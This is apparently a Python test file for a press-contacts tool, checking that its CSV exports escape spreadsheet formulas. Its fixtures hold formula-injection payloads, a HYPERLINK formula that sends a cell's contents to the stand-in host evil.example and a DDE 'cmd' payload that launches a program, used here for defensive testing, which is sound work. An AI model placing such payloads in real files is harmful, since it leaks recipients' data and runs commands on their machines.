"""Spreadsheet-safe CSV: what pressroom writes never runs as a formula, what it uses is unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from pressroom import csvsafe
from pressroom.load.contacts import load_lists
from pressroom.load.room import load_room
from pressroom.model.contacts import Recipient
from pressroom.sendlog import SendLog
from tests.cli_runner import run

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_EXPORT = (
    "E-mail,Full Name,Publication,Beat,Tags\n"
    'ana@ledger.example,"=HYPERLINK(""https://evil.example/?""&A2,""Ana"")",The Ledger,,\n'
    "ben@wire.example,@SUM(1+1)*cmd|' /C calc'!A0,+1 555 0100,-2+3,=x;y\n"
    '-carl@post.example,"\tCarl",Post,"\rnews",\n'
    "dee@post.example,Dee,'=already quoted,,\n"
)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_the_rule_is_owasps_and_reading_back_gives_the_value():
    for value in ("=1+2", "+1 555 0100", "-2", "@SUM(A1)", "\tx", "\rx", "\uff1dSUM(A1)"):
        assert csvsafe.spreadsheet_safe(value) == "'" + value
        assert csvsafe.cell_value(csvsafe.spreadsheet_safe(value)) == value
    for value in ("Ana", "", "ana@ledger.example", "'quoted", "1+1", " =spaced"):
        assert csvsafe.spreadsheet_safe(value) == value
        assert csvsafe.cell_value(value) == value
    assert csvsafe.spreadsheet_safe(None) == ""


def test_contacts_import_writes_a_list_no_spreadsheet_runs(make_room, capsys, tmp_path: Path):
    root = make_room()
    export = tmp_path / "export.csv"
    export.write_text(HOSTILE_EXPORT, encoding="utf-8")
    result = run(capsys, root, "contacts", "import", str(export), "--list", "tech")
    assert result.code == 0, result
    written = (root / "contacts/tech.csv").read_text(encoding="utf-8")
    assert written.count("'") >= 8
    for cell in cells(written):
        assert not cell.startswith(FORMULA_STARTS), cell
    # pressroom itself reads the real values back
    [tech] = load_lists(load_room(root))
    assert tech.problems == []
    by_email = {r.email: r for r in tech.recipients}
    assert by_email["ana@ledger.example"].name == '=HYPERLINK("https://evil.example/?"&A2,"Ana")'
    ben = by_email["ben@wire.example"]
    assert (ben.name, ben.outlet, ben.beat) == (
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1 555 0100",
        "-2+3",
    )
    assert ben.tags == ["=x", "y"]
    assert by_email["-carl@post.example"].name == "Carl"  # stripped as any value is
    assert by_email["-carl@post.example"].beat == "news"
    # a quote before a formula start is read as a spreadsheet reads it: a text mark
    assert by_email["dee@post.example"].outlet == "=already quoted"


def test_a_list_written_by_import_imports_again_unchanged(make_room, capsys, tmp_path: Path):
    root = make_room()
    export = tmp_path / "export.csv"
    export.write_text(HOSTILE_EXPORT, encoding="utf-8")
    assert run(capsys, root, "contacts", "import", str(export), "--list", "a").code == 0
    first = (root / "contacts/a.csv").read_text(encoding="utf-8")
    again = run(capsys, root, "contacts", "import", str(root / "contacts/a.csv"), "--list", "b")
    assert again.code == 0, again
    assert (root / "contacts/b.csv").read_text(encoding="utf-8") == first


def test_log_csv_neutralises_cells_and_the_log_keeps_the_real_value(tmp_path: Path):
    hostile = Recipient(email="-dee@post.example", lists=["tech"])
    with SendLog.open(tmp_path / "pressroom.db") as log:
        log.plan("launch", "v1", [hostile])
        batch = log.start_batch("launch", "v1", [hostile.key])
        log.fail_batch(batch, '=HYPERLINK("https://evil.example","server said")')
        [delivery] = log.report("launch")
        assert delivery.email == "-dee@post.example"
        assert delivery.reason is not None and delivery.reason.startswith("=HYPERLINK")
        out = io.StringIO()
        log.write_csv("launch", out)
    row = out.getvalue().splitlines()[1]
    assert row.startswith("'-dee@post.example,tech,failed,")
    for cell in cells(out.getvalue()):
        assert not cell.startswith(FORMULA_STARTS), cell
    assert "'=HYPERLINK" in out.getvalue()
